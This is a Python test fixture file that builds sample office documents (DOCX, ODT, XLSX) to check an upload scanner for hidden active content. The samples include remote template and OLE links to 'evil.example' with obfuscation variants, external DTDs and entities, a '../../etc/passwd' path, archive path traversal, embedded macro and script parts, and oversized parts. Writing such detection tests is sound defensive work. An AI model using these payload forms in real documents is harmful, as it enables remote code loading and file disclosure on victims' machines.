"""Documents of offices: what only looks like a program, and what hides one."""

from applicants.files.check import FileFault
from tests.bad_input.corpus.uploads import TYPES, Upload, office, open_document, zipped

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
F = FileFault


def related(
    kind: str,
    target: str,
    *,
    mode: str = "External",
    part: str = "document",
    encoding: str = "utf-8",
) -> bytes:
    """A document with one relation; `kind` is the last step of its type."""
    external = f' TargetMode="{mode}"' if mode else ""
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><Relationships>'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"{external}/>'
        "</Relationships>"
    )
    return office("docx", **{f"word/_rels/{part}.xml.rels": text.encode(encoding)})


def _odt(manifest: str = "<m/>", **parts: bytes) -> bytes:
    return open_document("odt", manifest=manifest.encode(), **parts)


def declared(system: str, public: str = "-//OpenOffice.org//DTD Manifest 1.0//EN") -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE m PUBLIC "{public}" "{system}">\n<m/>'


def _part(part: bytes) -> bytes:
    return office("docx", **{"word/document.xml": part})


def _types(kind: str, more: str = "") -> bytes:
    return zipped(
        {
            "[Content_Types].xml": f'<Types><Override ContentType="{TYPES}.{kind}"/>'
            f"{more}</Types>".encode()
        }
    )


def _encrypted_bit() -> bytes:
    content = bytearray(office("docx"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


def _prepended(content: bytes) -> bytes:
    return b"PK\x03\x04" + b"\0" * 30 + content


_DOCUMENT = "wordprocessingml.document.main+xml"
_LIBRARY = b'<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" '
_EMPTY = _LIBRARY + b'"library.dtd"><library:library library:name="Standard"/>'
_FULL = (
    _LIBRARY + b'"library.dtd"><library:library library:name="Standard">'
    b'<library:element library:name="Module1"/></library:library>'
)


_FILES: dict[str, tuple[str, bytes, FileFault | None]] = {
    "link-to-frameworks": ("docx", related("hyperlink", "https://eu.example/frameworks/x"), None),
    "link-to-a-frame": ("docx", related("hyperlink", "https://eu.example/frame"), None),
    "link-to-a-sub-document": ("docx", related("hyperlink", "https://x.example/subDocument"), None),
    "link-to-an-object": ("docx", related("hyperlink", "https://x.example/oleObject1"), None),
    "link-to-a-template": (
        "docx",
        related("hyperlink", "https://x.example/attachedTemplate"),
        None,
    ),
    "picture-from-elsewhere": ("docx", related("image", "https://x.example/frame.png"), None),
    "begun-from-a-template": (
        "docx",
        related("attachedTemplate", r"file:///C:\Users\Ana\Obrazec.dotx", part="settings"),
        None,
    ),
    "template-of-a-mac": ("docx", related("attachedTemplate", "file:///Users/Ana/A.dotx"), None),
    "template-by-name": ("docx", related("attachedTemplate", "Normal.dotm"), None),
    "template-in-a-folder": ("docx", related("attachedTemplate", "Predloge/Obrazec.dotx"), None),
    "template-by-path": ("docx", related("attachedTemplate", r"C:\Predloge\Obrazec.dotx"), None),
    "template-of-the-web": (
        "docx",
        related("attachedTemplate", "https://evil.example/x.dotm"),
        F.ACTIVE,
    ),
    "template-of-the-web-in-capitals": (
        "docx",
        related("attachedTemplate", "HTTP://evil.example/x.dotm"),
        F.ACTIVE,
    ),
    "template-of-a-server": (
        "docx",
        related("attachedTemplate", r"\\evil.example\x.dotm"),
        F.ACTIVE,
    ),
    "template-of-a-server-as-a-file": (
        "docx",
        related("attachedTemplate", "file://evil.example/x.dotm"),
        F.ACTIVE,
    ),
    "template-of-a-server-as-four-bars": (
        "docx",
        related("attachedTemplate", "file:////evil.example/x.dotm"),
        F.ACTIVE,
    ),
    "template-of-a-server-without-a-kind": (
        "docx",
        related("attachedTemplate", "//evil.example/x.dotm"),
        F.ACTIVE,
    ),
    "template-by-mail": ("docx", related("attachedTemplate", "mhtml:http://e.example"), F.ACTIVE),
    "frame-from-elsewhere": ("docx", related("frame", "https://evil.example/"), F.ACTIVE),
    "sub-document-from-elsewhere": ("docx", related("subDocument", "https://e.example"), F.ACTIVE),
    "object-from-elsewhere": ("docx", related("oleObject", "https://evil.example/"), F.ACTIVE),
    "object-under-another-name": (
        "docx",
        office(
            "docx",
            **{
                "word/_rels/document.xml.rels": f'<R><Relationship Type="{RELATIONS}/oleObject"'
                ' Target="media/picture.bin"/></R>'.encode(),
                "word/media/picture.bin": b"\xd0\xcf\x11\xe0",
            },
        ),
        F.ACTIVE,
    ),
    "object-from-elsewhere-utf-16": (
        "docx",
        related("oleObject", "https://evil.example/", encoding="utf-16"),
        F.ACTIVE,
    ),
    "object-behind-a-million-blanks": (
        "docx",
        office(
            "docx",
            **{
                "word/_rels/document.xml.rels": b"<Relationships>"
                + b" " * 1_200_000
                + f'<Relationship Type="{RELATIONS}/oleObject" TargetMode="External"'.encode()
                + b' Target="https://evil.example/"/></Relationships>'
            },
        ),
        F.ACTIVE,
    ),
    "object-in-other-quotes": (
        "docx",
        office(
            "docx",
            **{
                "word/_rels/document.xml.rels": "<r:Relationships xmlns:r='x'><r:Relationship "
                f"Target = 'x:'\n TargetMode = 'External' Type = '{RELATIONS}/oleObject' />"
                "</r:Relationships>".encode()
            },
        ),
        F.ACTIVE,
    ),
    "object-written-in-references": (
        "docx",
        office(
            "docx",
            **{
                "word/_rels/document.xml.rels": b'<R><Relationship TargetMode="Ext&#101;rnal" '
                b'Target="x:" Type="x/ole&#79;bject"/></R>'
            },
        ),
        F.ACTIVE,
    ),
    "macros-under-another-name": ("docx", related("vbaProject", "a.bin", mode=""), F.ACTIVE),
    "control-under-another-name": ("docx", related("control", "a.xml", mode=""), F.ACTIVE),
    "macros-by-their-kind": (
        "docx",
        _types(_DOCUMENT, '<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
        F.ACTIVE,
    ),
    "kind-in-a-name": (
        "docx",
        _types(_DOCUMENT, '<Override PartName="/macroEnabled.xml" ContentType="text/xml"/>'),
        None,
    ),
    "kind-only-in-a-name": (
        "docx",
        _types("x", f'<Override PartName="/{_DOCUMENT}" ContentType="text/xml"/>'),
        F.NOT_WHAT_IT_SAYS,
    ),
    "kind-only-in-words": (
        "docx",
        _types("x", f"<!-- {_DOCUMENT} -->"),
        F.NOT_WHAT_IT_SAYS,
    ),
    "template-as-a-document": (
        "docx",
        _types("wordprocessingml.template.main+xml"),
        F.NOT_WHAT_IT_SAYS,
    ),
    "presentation-as-a-document": (
        "docx",
        _types("presentationml.presentation.main+xml"),
        F.NOT_WHAT_IT_SAYS,
    ),
    "types-cut-in-the-middle": (
        "docx",
        zipped({"[Content_Types].xml": b'<Types><Override ContentType="'}),
        F.NOT_WHAT_IT_SAYS,
    ),
    "word-with-a-workbook-inside": (
        "docx",
        office("docx", **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}),
        None,
    ),
    "declared-in-the-document": (
        "docx",
        _part(b'<!DOCTYPE w SYSTEM "https://evil.example/x.dtd"><w:document/>'),
        F.DAMAGED,
    ),
    "declared-behind-5000-blanks": (
        "docx",
        _part(b"<!--" + b" " * 5_000 + b'--><!DOCTYPE w [<!ENTITY a "b">]><w:document/>'),
        F.DAMAGED,
    ),
    "declared-behind-200000-blanks": (
        "docx",
        _part(b"<!--" + b" " * 200_000 + b'--><!DOCTYPE w [<!ENTITY a "b">]><w:document/>'),
        F.DAMAGED,
    ),
    "declared-in-utf-16": (
        "docx",
        _part(
            '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY a "b">]><w/>'.encode(
                "utf-16"
            )
        ),
        F.DAMAGED,
    ),
    "declared-in-a-picture": (
        "docx",
        office(
            "docx",
            **{"word/media/a.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'},
        ),
        None,
    ),
    "words-about-a-declaration": (
        "docx",
        _part(b"<w:document><!-- <!DOCTYPE x> --></w:document>"),
        None,
    ),
    "not-markup": ("docx", _part(b"no markup"), None),
    "part-with-nothing": ("docx", _part(b""), None),
    "encrypted-part": ("docx", _encrypted_bit(), F.PROTECTED),
    "two-archives": ("docx", _prepended(office("docx")), None),
    "absolute-inside": ("docx", office("docx", **{"/etc/x": b"x"}), F.DAMAGED),
    "drive-inside": ("docx", office("docx", **{"C:/x": b"x"}), F.DAMAGED),
    "traversal-of-windows-inside": ("docx", office("docx", **{"word\\..\\..\\x": b"x"}), F.DAMAGED),
    "markup-of-20-megabytes": ("docx", _part(b"<w>" + b" " * 20_000_000 + b"</w>"), F.SWELLS),
    "markup-of-4-megabytes": ("docx", _part(b"<w>" + b" " * 4_000_000 + b"</w>"), None),
    "relations-of-12-megabytes": (
        "docx",
        office("docx", **{"word/_rels/a.rels": b"<R>" + b"<Relationship/>" * 800_000 + b"</R>"}),
        F.SWELLS,
    ),
    "openoffice-2": ("odt", _odt(declared("Manifest.dtd")), None),
    "openoffice-1": (
        "odt",
        _odt(
            **{
                "content.xml": declared(
                    "office.dtd", "-//OpenOffice.org//DTD OfficeDocument 1.0//EN"
                ).encode()
            }
        ),
        None,
    ),
    "type-of-others": ("odt", _odt(declared("Manifest.dtd", "-//EVIL//DTD X//EN")), F.DAMAGED),
    "type-from-the-web": ("odt", _odt(declared("https://evil.example/Manifest.dtd")), F.DAMAGED),
    "type-from-a-folder": ("odt", _odt(declared("../../etc/passwd")), F.DAMAGED),
    "type-from-a-server": ("odt", _odt(declared("\\\\evil.example\\x")), F.DAMAGED),
    "type-with-entities": (
        "odt",
        _odt(
            '<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd" '
            '[<!ENTITY a "b">]><m/>'
        ),
        F.DAMAGED,
    ),
    "empty-basic-folder": ("odt", _odt(**{"Basic/": b""}), None),
    "empty-basic-library": (
        "odt",
        _odt(**{"Basic/script-lc.xml": _EMPTY, "Basic/Standard/script-lb.xml": _EMPTY}),
        None,
    ),
    "empty-scripts-folder": ("odt", _odt(**{"Scripts/": b"", "Scripts/python/": b""}), None),
    "basic-module": ("odt", _odt(**{"Basic/Standard/Module1.xml": _EMPTY}), F.ACTIVE),
    "basic-module-named": ("odt", _odt(**{"Basic/Standard/script-lb.xml": _FULL}), F.ACTIVE),
    "basic-library-from-elsewhere": (
        "odt",
        _odt(
            **{
                "Basic/script-lc.xml": b'<l><library xlink:href="https://evil.example/x" '
                b'library:link="true"/></l>'
            }
        ),
        F.ACTIVE,
    ),
    "python-in-scripts": ("odt", _odt(**{"Scripts/python/a.py": b"x"}), F.ACTIVE),
    "words-about-encryption": ("odt", _odt('<m><e full-path="encryption-data"/></m>'), None),
    "encryption-under-another-prefix": ("odt", _odt("<m><x:encryption-data/></m>"), F.PROTECTED),
    "workbook-as-odt": ("odt", office("xlsx"), F.NOT_WHAT_IT_SAYS),
    "kind-with-a-line-end": (
        "odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text\n"}),
        None,
    ),
    "kind-of-12-megabytes": ("odt", zipped({"mimetype": b" " * 12_000_000}), F.SWELLS),
    "template-as-odt": (
        "odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text-template"}),
        F.NOT_WHAT_IT_SAYS,
    ),
    "workbook-links": (
        "xlsx",
        office("xlsx", **{"xl/externalLinks/_rels/a.xml.rels": b"<R/>"}),
        None,
    ),
    "sheet-of-old-macros-by-relation": (
        "xlsx",
        office(
            "xlsx",
            **{"xl/_rels/workbook.xml.rels": b'<R><Relationship Type="x/xlMacrosheet"/></R>'},
        ),
        F.ACTIVE,
    ),
}
OFFICES: dict[str, Upload] = {
    f"{kind}-{name}": Upload(f"vloga.{kind}", data, fault)
    for name, (kind, data, fault) in _FILES.items()
}
